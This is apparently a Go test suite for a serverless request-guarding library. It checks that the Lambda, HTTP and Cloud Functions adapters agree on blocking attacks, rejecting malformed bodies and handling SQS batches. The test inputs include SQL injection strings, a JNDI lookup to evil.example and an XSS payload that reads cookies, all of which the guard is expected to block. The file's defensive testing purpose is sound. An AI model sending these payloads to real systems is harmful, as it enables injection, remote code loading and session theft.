package crossadapter_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/aws/aws-lambda-go/events"
	"github.com/aws/aws-lambda-go/lambda"
	"github.com/aws/aws-lambda-go/lambdacontext"
	"go.uber.org/zap"
	"go.uber.org/zap/zapcore"
	"go.uber.org/zap/zaptest/observer"

	"github.com/fnguard/fnguard/guard"
	"github.com/fnguard/fnguard/middleware/guardgcf"
	"github.com/fnguard/fnguard/middleware/guardhttp"
	"github.com/fnguard/fnguard/middleware/guardlambda"
)

// request is one HTTP request, sent to every adapter in its own form.
type request struct {
	method, path, query string // query is the raw, encoded query string
	headers             map[string]string
	body                string
}

// outcome is what an adapter did, normalised across platforms.
type outcome struct {
	Status    int    // the HTTP status the client got; 0 when the handler panicked
	Ran       bool   // the handler ran
	Panicked  bool   // the handler's panic reached the platform (aws-lambda-go's loop, net/http's server)
	Lines     int    // fnguard decision log lines
	Action    string // fnguard.action of the decision line
	Rule      string // fnguard.rule
	Location  string // fnguard.location
	AfterThat int    // status of a clean request sent next to the same handler
}

type scenario struct {
	name     string
	opts     []guard.Option
	setup    func(t *testing.T)
	nilGuard bool
	req      request
	panics   bool
	want     outcome
}

func newGuard(t *testing.T, opts ...guard.Option) (*guard.Guard, *observer.ObservedLogs) {
	t.Helper()
	core, logs := observer.New(zapcore.DebugLevel)
	g, err := guard.New(append([]guard.Option{guard.WithoutEnv(), guard.WithLogger(zap.New(core)), guard.WithLogRate(-1, 0)}, opts...)...)
	if err != nil {
		t.Fatal(err)
	}
	return g, logs
}

// decisionLines are the log lines that record a decision.
func decisionLines(logs *observer.ObservedLogs) []observer.LoggedEntry {
	if logs == nil {
		return nil
	}
	var out []observer.LoggedEntry
	for _, e := range logs.All() {
		if _, ok := e.ContextMap()["fnguard.action"]; ok {
			out = append(out, e)
		}
	}
	return out
}

func fill(o *outcome, logs *observer.ObservedLogs) {
	lines := decisionLines(logs)
	o.Lines = len(lines)
	if len(lines) > 0 {
		m := lines[0].ContextMap()
		o.Action, _ = m["fnguard.action"].(string)
		o.Rule, _ = m["fnguard.rule"].(string)
		o.Location, _ = m["fnguard.location"].(string)
	}
}

var clean = request{method: "GET", path: "/orders/42", query: "q=red+shoes&page=2",
	headers: map[string]string{"Accept": "application/json", "X-Note": "gift wrap please"}}

const sqli = "q=1%27%20OR%20%271%27%3D%271%27%20--"

func scenarios() []scenario {
	body := func(s string) request {
		return request{method: "POST", path: "/orders", headers: map[string]string{"Content-Type": "application/json"}, body: s}
	}
	badRuntime := func(t *testing.T) { t.Setenv("AWS_LAMBDA_RUNTIME_API", "not a host:port") }
	return []scenario{
		{name: "clean", req: clean, want: outcome{Status: 200, Ran: true}},
		{name: "clean JSON body", req: body(`{"note":"blue, size 42","qty":2}`), want: outcome{Status: 200, Ran: true}},
		{name: "attack in query", req: request{method: "GET", path: "/orders", query: sqli},
			want: outcome{Status: 403, Lines: 1, Action: "block", Rule: "sqli.*", Location: "query.q"}},
		{name: "attack in header", req: request{method: "GET", path: "/orders", headers: map[string]string{"X-Note": "${jndi:ldap://evil.example/a}"}},
			want: outcome{Status: 403, Lines: 1, Action: "block", Rule: "jndi.*", Location: "headers.x-note"}},
		{name: "attack in body", req: body(`{"note":"<script>alert(document.cookie)</script>"}`),
			want: outcome{Status: 403, Lines: 1, Action: "block", Rule: "xss.*", Location: "body.note"}},
		{name: "malformed body", req: body(`{"note":`),
			want: outcome{Status: 400, Lines: 1, Action: "reject", Rule: "validation.invalid_json", Location: "body"}},
		{name: "oversized body", opts: []guard.Option{guard.WithMaxBodyBytes(1024)}, req: body(`{"note":"` + strings.Repeat("a", 2000) + `"}`),
			want: outcome{Status: 413, Lines: 1, Action: "reject", Rule: "validation.body_too_large", Location: "body"}},
		{name: "monitor mode", opts: []guard.Option{guard.WithMode(guard.Monitor)}, req: request{method: "GET", path: "/orders", query: sqli},
			want: outcome{Status: 200, Ran: true, Lines: 1, Action: "monitor", Rule: "sqli.*", Location: "query.q"}},
		{name: "panicking handler", req: clean, panics: true, want: outcome{Ran: true, Panicked: true, AfterThat: 200}},
		{name: "nil guard", nilGuard: true, req: clean, want: outcome{Status: 503}},
		{name: "runtime controls cannot be installed, fail closed", setup: badRuntime,
			opts: []guard.Option{guard.WithEgressAllow("api.example.com")}, req: clean,
			want: outcome{Status: 503, Lines: 1, Action: "error", Rule: "fnguard.runtime_protection", Location: "runtime"}},
		{name: "runtime controls cannot be installed, fail open", setup: badRuntime,
			opts: []guard.Option{guard.WithEgressAllow("api.example.com"), guard.WithFailMode(guard.FailOpen)}, req: clean,
			want: outcome{Status: 503, Lines: 1, Action: "error", Rule: "fnguard.runtime_protection", Location: "runtime"}},
	}
}

// adapters, each taking a guard, a handler behaviour and a request.
var adapters = []struct {
	name string
	run  func(t *testing.T, g *guard.Guard, sc scenario) outcome
}{
	{"guardlambda", runLambda},
	{"guardhttp", func(t *testing.T, g *guard.Guard, sc scenario) outcome {
		return runServer(t, sc, func(h http.HandlerFunc) http.Handler { return guardhttp.Handler(g, h) })
	}},
	{"guardgcf", func(t *testing.T, g *guard.Guard, sc scenario) outcome {
		return runServer(t, sc, func(h http.HandlerFunc) http.Handler { return http.HandlerFunc(guardgcf.HTTP(g, h)) })
	}},
}

func TestSameScenariosEveryAdapter(t *testing.T) {
	for _, sc := range scenarios() {
		t.Run(sc.name, func(t *testing.T) {
			got := map[string]outcome{}
			for _, a := range adapters {
				t.Run(a.name, func(t *testing.T) {
					if sc.setup != nil {
						sc.setup(t)
					}
					var g *guard.Guard
					var logs *observer.ObservedLogs
					if !sc.nilGuard {
						g, logs = newGuard(t, sc.opts...)
					}
					o := a.run(t, g, sc)
					fill(&o, logs)
					got[a.name] = o
					if !matches(o, sc.want) {
						t.Errorf("got  %+v\nwant %+v", o, sc.want)
					}
				})
			}
			// And the adapters agree with each other, rule for rule.
			first := got[adapters[0].name]
			for _, a := range adapters[1:] {
				if o := got[a.name]; o != first {
					t.Errorf("%s and %s differ:\n%+v\n%+v", adapters[0].name, a.name, first, o)
				}
			}
		})
	}
}

// matches compares an outcome with the expected one; a rule ending in ".*"
// matches any rule of that category.
func matches(got, want outcome) bool {
	if p, ok := strings.CutSuffix(want.Rule, "*"); ok && strings.HasPrefix(got.Rule, p) {
		want.Rule = got.Rule
	}
	return got == want
}

// runLambda sends the request as an API Gateway REST event (the JSON
// aws-lambda-go decodes into events.APIGatewayProxyRequest) through
// WrapHandler around aws-lambda-go's lambda.NewHandler.
func runLambda(t *testing.T, g *guard.Guard, sc scenario) outcome {
	var o outcome
	h := guardlambda.WrapHandler(g, lambda.NewHandler(func(ctx context.Context, req events.APIGatewayProxyRequest) (events.APIGatewayProxyResponse, error) {
		o.Ran = true
		if sc.panics {
			panic("handler bug")
		}
		return events.APIGatewayProxyResponse{StatusCode: 200, Body: "ok"}, nil
	}))
	invoke := func(r request) (status int, panicked bool) {
		defer func() {
			// aws-lambda-go's invoke loop recovers handler panics and
			// reports them to the Runtime API; here the test does.
			if p := recover(); p != nil {
				status, panicked = 0, true
			}
		}()
		ctx := lambdacontext.NewContext(context.Background(), &lambdacontext.LambdaContext{AwsRequestID: "c0ffee00-0000-4000-8000-000000000001"})
		out, err := h.Invoke(ctx, apiGatewayEvent(t, r))
		if err != nil {
			t.Fatalf("invocation error %v", err)
		}
		var resp events.APIGatewayProxyResponse
		if err := json.Unmarshal(out, &resp); err != nil {
			t.Fatalf("response %s: %v", out, err)
		}
		return resp.StatusCode, false
	}
	o.Status, o.Panicked = invoke(sc.req)
	if sc.panics {
		sc.panics = false
		o.AfterThat, _ = invoke(clean)
	}
	return o
}

func apiGatewayEvent(t *testing.T, r request) []byte {
	ev := events.APIGatewayProxyRequest{
		Resource: r.path, Path: r.path, HTTPMethod: r.method, Headers: map[string]string{},
		MultiValueHeaders: map[string][]string{}, Body: r.body,
		RequestContext: events.APIGatewayProxyRequestContext{
			RequestID: "c0ffee00-0000-4000-8000-000000000001", ResourcePath: r.path, HTTPMethod: r.method, Stage: "prod",
			Identity: events.APIGatewayRequestIdentity{SourceIP: "203.0.113.9"},
		},
	}
	for k, v := range r.headers {
		ev.Headers[k] = v
		ev.MultiValueHeaders[k] = []string{v}
	}
	if r.query != "" {
		q, err := url.ParseQuery(r.query)
		if err != nil {
			t.Fatal(err)
		}
		ev.QueryStringParameters, ev.MultiValueQueryStringParameters = map[string]string{}, q
		for k, vs := range q {
			ev.QueryStringParameters[k] = vs[len(vs)-1]
		}
	}
	b, err := json.Marshal(ev)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// runServer sends the request to a real server on 127.0.0.1.
func runServer(t *testing.T, sc scenario, wrap func(http.HandlerFunc) http.Handler) outcome {
	var o outcome
	// The handler runs on the server's goroutines: what it shares with the
	// test goes through atomics (a panicking handler's connection close is
	// no happens-before edge for the race detector).
	var ran, panics atomic.Bool
	panics.Store(sc.panics)
	srv := httptest.NewUnstartedServer(wrap(func(w http.ResponseWriter, r *http.Request) {
		ran.Store(true)
		_, _ = io.Copy(io.Discard, r.Body)
		if panics.Load() {
			panic("handler bug")
		}
		_, _ = w.Write([]byte("ok"))
	}))
	srv.Config.ErrorLog = newDiscardLogger()
	srv.Start()
	defer srv.Close()
	send := func(r request) (int, bool) {
		u := srv.URL + r.path
		if r.query != "" {
			u += "?" + r.query
		}
		req, err := http.NewRequest(r.method, u, strings.NewReader(r.body))
		if err != nil {
			t.Fatal(err)
		}
		for k, v := range r.headers {
			req.Header.Set(k, v)
		}
		resp, err := srv.Client().Do(req)
		if err != nil {
			// net/http's server recovered the panic and closed the
			// connection.
			return 0, true
		}
		defer resp.Body.Close()
		_, _ = io.Copy(io.Discard, resp.Body)
		return resp.StatusCode, false
	}
	o.Status, o.Panicked = send(sc.req)
	if sc.panics {
		panics.Store(false)
		o.AfterThat, _ = send(clean)
	}
	o.Ran = ran.Load()
	return o
}

// TestSQSMalformedRecordsFailAlone: a record the adapter cannot read (a
// binary attribute that is not base64) and one the engine refuses (a
// string over FNGUARD_MAX_STRING_BYTES) get the same answer: each fails
// alone, the handler gets the others, one decision line names both.
func TestSQSMalformedRecordsFailAlone(t *testing.T) {
	g, logs := newGuard(t, guard.WithMaxStringBytes(256))
	msgs := []events.SQSMessage{sqsMsg("m0", "std", ""), sqsMsg("m1", "std", ""), sqsMsg("m2", "std", ""), sqsMsg("m3", "std", ""), sqsMsg("m4", "std", "")}
	msgs[1].MessageAttributes = map[string]events.SQSMessageAttribute{"kind": {DataType: "Binary"}}
	msgs[3].Body = `{"note":"` + strings.Repeat("n", 300) + `"}`
	payload := sqsPayload(t, msgs)
	// The bad base64 is written into the JSON by hand: aws-lambda-go would
	// not encode it.
	payload = []byte(strings.Replace(string(payload), `"dataType":"Binary"`, `"binaryValue":"%%not base64%%","dataType":"Binary"`, 1))

	seen, resp := invokeSQS(t, g, payload, nil)
	if want := []string{"m0", "m2", "m4"}; !slices.Equal(seen, want) {
		t.Errorf("handler got %v, want %v", seen, want)
	}
	if want := []string{"m1", "m3"}; !slices.Equal(resp, want) {
		t.Errorf("batchItemFailures %v, want %v", resp, want)
	}
	lines := decisionLines(logs)
	if len(lines) != 1 {
		t.Fatalf("%d decision lines, want 1", len(lines))
	}
	rules := fmt.Sprint(lines[0].ContextMap()["fnguard.findings"])
	for _, want := range []string{"validation.invalid_base64", "records[1].messageAttributes", "validation.string_too_long", "records[3].body"} {
		if !strings.Contains(rules, want) {
			t.Errorf("decision line lacks %q: %s", want, rules)
		}
	}
}

// TestSQSFIFOOrder: in a FIFO queue, a failed record takes every later
// record of the batch with it (or of its message group with
// FNGUARD_FIFO_SCOPE=group), whether fnguard blocked it or the handler
// reported it; a standard queue fails it alone.
func TestSQSFIFOOrder(t *testing.T) {
	attack := `{"q":"1' OR '1'='1' --"}`
	groups := []string{"a", "b", "a", "b", "c"}
	batch := func(queue string, poisoned int) []events.SQSMessage {
		var ms []events.SQSMessage
		for i, grp := range groups {
			m := sqsMsg(fmt.Sprintf("m%d", i), queue, grp)
			if i == poisoned {
				m.Body = attack
			}
			ms = append(ms, m)
		}
		return ms
	}
	cases := []struct {
		name       string
		env        string // FNGUARD_FIFO_SCOPE
		queue      string
		poisoned   int
		handlerErr []string
		seen, fail []string
	}{
		{"standard queue", "", "orders", 1, nil, []string{"m0", "m2", "m3", "m4"}, []string{"m1"}},
		{"FIFO, default batch scope", "", "orders.fifo", 1, nil, []string{"m0"}, []string{"m1", "m2", "m3", "m4"}},
		{"FIFO, FNGUARD_FIFO_SCOPE=group", "group", "orders.fifo", 1, nil, []string{"m0", "m2", "m4"}, []string{"m1", "m3"}},
		{"FIFO, the handler reports a failure", "", "orders.fifo", -1, []string{"m2"},
			[]string{"m0", "m1", "m2", "m3", "m4"}, []string{"m2", "m3", "m4"}},
		{"FIFO, group scope, the handler reports a failure", "group", "orders.fifo", -1, []string{"m1"},
			[]string{"m0", "m1", "m2", "m3", "m4"}, []string{"m1", "m3"}},
		{"FIFO, blocked and handler failures merged", "group", "orders.fifo", 0, []string{"m1"},
			[]string{"m1", "m3", "m4"}, []string{"m1", "m0", "m2", "m3"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if tc.env != "" {
				t.Setenv("FNGUARD_FIFO_SCOPE", tc.env)
			}
			core, _ := observer.New(zapcore.DebugLevel)
			g, err := guard.New(guard.WithLogger(zap.New(core))) // reads FNGUARD_FIFO_SCOPE
			if err != nil {
				t.Fatal(err)
			}
			seen, fail := invokeSQS(t, g, sqsPayload(t, batch(tc.queue, tc.poisoned)), tc.handlerErr)
			if !slices.Equal(seen, tc.seen) {
				t.Errorf("handler got %v, want %v", seen, tc.seen)
			}
			if !slices.Equal(fail, tc.fail) {
				t.Errorf("batchItemFailures %v, want %v", fail, tc.fail)
			}
		})
	}
}

func sqsMsg(id, queue, group string) events.SQSMessage {
	m := events.SQSMessage{MessageId: id, ReceiptHandle: "AQEB" + id, Body: `{"sku":"A-1","qty":1}`,
		Attributes:  map[string]string{"ApproximateReceiveCount": "1", "SentTimestamp": "1718098887512"},
		EventSource: "aws:sqs", EventSourceARN: "arn:aws:sqs:eu-west-1:123456789012:" + queue, AWSRegion: "eu-west-1"}
	if group != "" {
		m.Attributes["MessageGroupId"] = group
		m.Attributes["SequenceNumber"] = "1862793850" + id[1:]
	}
	return m
}

func sqsPayload(t *testing.T, msgs []events.SQSMessage) []byte {
	b, err := json.Marshal(events.SQSEvent{Records: msgs})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// invokeSQS runs an SQS handler made by lambda.NewHandler that reports
// handlerFails; it returns the message ids the handler got and the
// batchItemFailures of the response, in order.
func invokeSQS(t *testing.T, g *guard.Guard, payload []byte, handlerFails []string) (seen, fails []string) {
	t.Helper()
	h := guardlambda.WrapHandler(g, lambda.NewHandler(func(ctx context.Context, ev events.SQSEvent) (events.SQSEventResponse, error) {
		var resp events.SQSEventResponse
		for _, m := range ev.Records {
			seen = append(seen, m.MessageId)
			if slices.Contains(handlerFails, m.MessageId) {
				resp.BatchItemFailures = append(resp.BatchItemFailures, events.SQSBatchItemFailure{ItemIdentifier: m.MessageId})
			}
		}
		return resp, nil
	}))
	ctx := lambdacontext.NewContext(context.Background(), &lambdacontext.LambdaContext{AwsRequestID: "c0ffee00-0000-4000-8000-0000000000aa"})
	out, err := h.Invoke(ctx, payload)
	if err != nil {
		t.Fatalf("invocation error: %v", err)
	}
	var resp events.SQSEventResponse
	if err := json.Unmarshal(out, &resp); err != nil {
		t.Fatalf("response %s: %v", out, err)
	}
	for _, f := range resp.BatchItemFailures {
		fails = append(fails, f.ItemIdentifier)
	}
	return seen, fails
}

func newDiscardLogger() *log.Logger { return log.New(io.Discard, "", 0) }
